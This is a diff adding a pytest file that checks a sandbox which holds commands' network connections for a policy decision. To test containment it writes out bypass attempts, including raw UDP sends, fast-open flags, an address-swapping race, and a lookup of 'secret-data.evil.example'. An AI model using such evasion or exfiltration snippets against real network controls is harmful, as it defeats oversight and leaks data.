@@ -1,0 +1,257 @@
+"""Connections and lookups that commands make by themselves, past the proxy: each waits for the policy."""
+
+from __future__ import annotations
+
+import socket
+import sys
+import threading
+from collections.abc import Callable, Iterator
+from contextlib import contextmanager
+from pathlib import Path
+
+import pytest
+
+from handrail.protocols import Decision
+
+from .conftest import MakeTask, Task
+from .servers import HOST, OTHER, Recorded
+
+ON = {"contain": "on"}
+CURL = "curl -sS --noproxy '*' -m 20"
+
+
+@contextmanager
+def datagrams(
+    family: int = socket.AF_INET, host: str = "127.0.0.1"
+) -> Iterator[tuple[int, Callable[[], bytes | None]]]:
+    """A UDP port, and what has arrived there; None for nothing."""
+    with socket.socket(family, socket.SOCK_DGRAM) as sock:
+        sock.bind((host, 0))
+        sock.setblocking(False)
+
+        def received() -> bytes | None:
+            try:
+                return sock.recv(100)
+            except BlockingIOError:
+                return None
+
+        yield sock.getsockname()[1], received
+
+
+def python(task: Task, path: Path, code: str, **more: object) -> dict[str, object]:
+    path.write_text(code)
+    return task.run(f"{sys.executable} {path}", **more)
+
+
+@pytest.mark.parametrize("host", ["127.0.0.1", "0.0.0.0", "[::ffff:127.0.0.1]"])
+def test_a_service_of_the_machine_itself_is_asked_about(make_task: MakeTask, plain: Recorded, host: str) -> None:
+    task = make_task(ON)
+
+    answer = task.run(f"{CURL} http://{host}:{plain.port}/")
+
+    assert answer["exit_code"] == 7
+    assert task.asked.texts == [f"curl wants 127.0.0.1:{plain.port}"]
+    assert f"127.0.0.1:{plain.port}, a service of this machine itself" in answer["note"]
+    assert plain.requests == []
+    task.asked.decision = Decision.ONCE
+    assert task.run(f"{CURL} http://{host}:{plain.port}/")["exit_code"] == 0
+    assert len(plain.requests) == 1
+
+
+def test_a_lookup_is_held_and_its_answer_is_not_asked_about_again(make_task: MakeTask, plain: Recorded) -> None:
+    task = make_task(ON, decision=Decision.ONCE)
+
+    assert task.run(f"{CURL} http://{OTHER}:{plain.port}/")["exit_code"] == 0
+
+    assert task.asked.texts == [f"curl wants {OTHER}"]
+    assert len(plain.requests) == 1
+
+
+def test_a_refused_lookup_fails(make_task: MakeTask, tmp_path: Path) -> None:
+    task = make_task({**ON, "resolve": {}})
+
+    answer = python(
+        task,
+        tmp_path / "lookup.py",
+        "import socket\ntry: socket.getaddrinfo('secret-data.evil.example', 443)\nexcept OSError as e: print('failed')",
+    )
+
+    assert "failed" in str(answer["output"])
+    assert {text.partition(" wants ")[2] for text in task.asked.texts} == {"secret-data.evil.example"}
+
+
+def test_a_host_with_a_port_may_be_looked_up_and_not_reached_elsewhere(make_task: MakeTask, plain: Recorded) -> None:
+    task = make_task({**ON, "allow": (f"{OTHER}:1",)})
+
+    assert task.run(f"{CURL} http://{OTHER}:{plain.port}/")["exit_code"] == 7
+
+    assert task.asked.texts == [f"curl wants {OTHER}:{plain.port}"]
+
+
+@pytest.mark.parametrize("way", ["sendto", "sendmsg", "connect", "sendmmsg"])
+@pytest.mark.parametrize(("family", "host"), [("AF_INET", "127.0.0.1"), ("AF_INET6", "::1")])
+def test_not_a_byte_goes_to_an_unlisted_place_by_udp(
+    make_task: MakeTask, tmp_path: Path, way: str, family: str, host: str
+) -> None:
+    task = make_task(ON)
+    with datagrams(getattr(socket, family), host) as (port, received):
+        code = SENDERS.format(family=family, host=host, port=port, way=way)
+
+        answer = python(task, tmp_path / "send.py", code)
+
+        assert "OSError" in str(answer["output"]), answer
+        assert received() is None
+        if way == "sendmmsg":  # several messages with addresses of their own are refused as such
+            return
+        task.asked.decision = Decision.ONCE
+        assert "sent" in str(python(task, tmp_path / "send.py", code)["output"])
+        assert received() == b"data"
+
+
+SENDERS = """
+import ctypes, socket, struct
+s = socket.socket(socket.{family}, socket.SOCK_DGRAM)
+to = ("{host}", {port})
+def sendmmsg():
+    libc = ctypes.CDLL(None, use_errno=True)
+    raw = struct.pack("=H", socket.AF_INET) + struct.pack(">H", {port}) + socket.inet_aton("127.0.0.1") + bytes(8)
+    name, data = ctypes.create_string_buffer(raw, len(raw)), ctypes.create_string_buffer(b"data", 4)
+    iov = ctypes.create_string_buffer(struct.pack("QQ", ctypes.addressof(data), 4), 16)
+    one = struct.pack("QIxxxxQQQQiI", ctypes.addressof(name), len(raw), ctypes.addressof(iov), 1, 0, 0, 0, 0)
+    both = ctypes.create_string_buffer(one * 2, len(one) * 2)
+    if libc.sendmmsg(s.fileno(), both, 2, 0) < 0:
+        raise OSError(ctypes.get_errno(), "refused")
+try:
+    if "{way}" == "sendto": s.sendto(b"data", to)
+    elif "{way}" == "sendmsg": s.sendmsg([b"da", b"ta"], [], 0, to)
+    elif "{way}" == "sendmmsg": sendmmsg()
+    else: s.connect(to); s.send(b"data")
+    print("sent")
+except OSError as error:
+    print("OSError", error)
+"""
+
+
+def test_fast_open_does_not_go_past_the_question(make_task: MakeTask, plain: Recorded, tmp_path: Path) -> None:
+    task = make_task(ON)
+    code = f"""
+import socket
+s = socket.socket()
+to = ("127.0.0.1", {plain.port})
+for way in (lambda: s.sendto(b"GET /", 0x20000000, to), lambda: s.sendmsg([b"GET /"], [], 0x20000000, to)):
+    try: way(); print("sent")
+    except OSError as error: print("refused", error.errno)
+"""
+
+    answer = python(task, tmp_path / "fast.py", code)
+
+    assert str(answer["output"]).count("refused") == 2
+    assert plain.requests == []
+
+
+def test_a_server_of_the_task_itself_is_reached_without_a_question(make_task: MakeTask, tmp_path: Path) -> None:
+    (tmp_path / "page").write_text("hello")
+    (tmp_path / "serve.py").write_text(
+        "import http.server as h, pathlib\ns = h.ThreadingHTTPServer(('127.0.0.1', 0), h.SimpleHTTPRequestHandler)\n"
+        "pathlib.Path('port').write_text(str(s.server_port))\ns.serve_forever()\n"
+    )
+    task = make_task(ON)
+    started = task.run(f"{sys.executable} serve.py", background=True)
+
+    answer = task.run(
+        f"until [ -s port ]; do sleep 0.05; done; for host in 127.0.0.1 localhost; do {CURL} http://$host:$(cat port)/page; done"
+    )
+
+    assert answer["output"] == "hellohello", answer
+    assert task.asked.requests == []
+    task.app.handle_function_call("process", {"action": "kill", "session_id": started["session_id"]}, task_id="t")
+
+
+def test_local_sockets_and_failing_connections_are_as_ever(make_task: MakeTask, tmp_path: Path) -> None:
+    task = make_task({**ON, "allow": ("127.0.0.0/8",)})
+    with socket.socket() as closed:
+        closed.bind(("127.0.0.1", 0))
+        port = closed.getsockname()[1]
+    code = f"""
+import socket, os, errno
+a = socket.socket(socket.AF_UNIX); a.bind("sock"); a.listen()
+b = socket.socket(socket.AF_UNIX); b.connect("sock"); b.sendmsg([b"x"]); print(a.accept()[0].recv(1))
+for s, expected in ((socket.socket(), "ECONNREFUSED"),):
+    try: s.connect(("127.0.0.1", {port}))
+    except OSError as e: print(errno.errorcode[e.errno])
+s = socket.socket(); s.setblocking(False)
+print(errno.errorcode.get(s.connect_ex(("127.0.0.1", {port})), 0) in ("EINPROGRESS", "ECONNREFUSED"))
+u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.connect(("127.0.0.1", 9))
+import ctypes; print(ctypes.CDLL(None).connect(u.fileno(), bytes(16), 16))
+try: os.close(99) or socket.socket(fileno=99)
+except OSError as e: print("EBADF" if e.errno == errno.EBADF else e)
+"""
+
+    answer = python(task, tmp_path / "sockets.py", code)
+
+    assert str(answer["output"]).split() == ["b'x'", "ECONNREFUSED", "True", "0", "EBADF"], answer
+
+
+def test_an_address_that_changes_while_it_is_checked_is_not_used(
+    make_task: MakeTask, plain: Recorded, tmp_path: Path
+) -> None:
+    """A thread writes the address of another server over the one that was asked about, as fast as it can."""
+    task = make_task({**ON, "allow": ("127.0.0.2",)})
+    code = f"""
+import ctypes, socket, struct, threading
+libc = ctypes.CDLL(None, use_errno=True)
+def address(host, port):
+    return struct.pack("=H", socket.AF_INET) + struct.pack(">H", port) + socket.inet_aton(host) + bytes(8)
+good, bad = address("127.0.0.2", 9), address("127.0.0.1", {plain.port})
+room = ctypes.create_string_buffer(good, 16)
+stop = False
+def swap():
+    while not stop:
+        ctypes.memmove(room, bad, 16); ctypes.memmove(room, good, 16)
+threading.Thread(target=swap, daemon=True).start()
+reached = 0
+for _ in range(300):
+    s = socket.socket()
+    reached += libc.connect(s.fileno(), room, 16) == 0
+    s.close()
+stop = True
+print("reached", reached)
+"""
+
+    answer = python(task, tmp_path / "race.py", code, timeout=120)
+
+    assert str(answer["output"]).split() == ["reached", "0"], answer
+
+
+def test_a_person_can_take_their_time_while_the_connection_waits(make_task: MakeTask, plain: Recorded) -> None:
+    task = make_task(ON, decision=Decision.ONCE)
+    waiting, go_on = threading.Event(), threading.Event()
+    decide = task.asked.decide
+
+    def slowly(request: object) -> object:
+        waiting.set()
+        assert go_on.wait(20)
+        return decide(request)  # type: ignore[arg-type]
+
+    task.asked.decide = slowly  # type: ignore[assignment, method-assign]
+    results: list[dict[str, object]] = []
+    command = f"curl -sS --noproxy '*' http://127.0.0.1:{plain.port}/"
+    thread = threading.Thread(target=lambda: results.append(task.run(command, timeout=1)))
+    thread.start()
+    assert waiting.wait(20)
+    thread.join(1.5)  # longer than the command may take
+    go_on.set()
+    thread.join(20)
+
+    assert results[0]["exit_code"] == 0, results
+
+
+def test_names_and_addresses_of_the_policy_hold_for_both_ways(make_task: MakeTask, plain: Recorded) -> None:
+    task = make_task({**ON, "allow": (HOST, "127.0.0.1"), "deny": (OTHER,)})
+
+    both = [task.run(f"{how} http://{HOST}:{plain.port}/")["exit_code"] for how in ("curl -sS", CURL)]
+    denied = [task.run(f"{how} -f http://{OTHER}:{plain.port}/") for how in ("curl -sS", CURL)]
+
+    assert both == [0, 0]
+    assert all(answer["exit_code"] and "network.deny" in answer["note"] for answer in denied), denied
+    assert task.asked.requests == []
